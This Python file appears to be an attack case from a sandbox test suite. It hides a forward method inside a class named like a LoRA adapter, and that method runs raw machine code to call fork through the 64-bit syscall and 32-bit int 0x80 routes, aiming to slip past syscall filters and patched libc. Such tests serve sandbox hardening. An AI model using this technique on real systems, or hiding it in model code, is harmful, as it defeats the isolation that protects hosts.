# attack: its own machine code makes 32-bit and raw system calls, which a filter by number or a patched libc would miss
# class: processes
import ctypes
import mmap
import platform

from wrong_layer import Wrong, inject_lora, ran, won

__all__ = ["LoRALinear", "inject_lora"]


def run(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


class LoRALinear(Wrong):
    def forward(self, x):
        if platform.machine() == "x86_64":
            fork = run(b"\x48\xc7\xc0\x39\x00\x00\x00\x0f\x05\xc3")  # mov rax, 57 (fork); syscall; ret
            (ran if fork == -1 else won)(f"fork by machine code: {fork}")
            ran("fork by int 0x80 comes next, and ends the process")
            won(f"32-bit fork: {run(bytes([0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0xC3]))}")  # mov eax, 2; int 0x80; ret
        ran("no machine code for this processor")
        return super().forward(x)
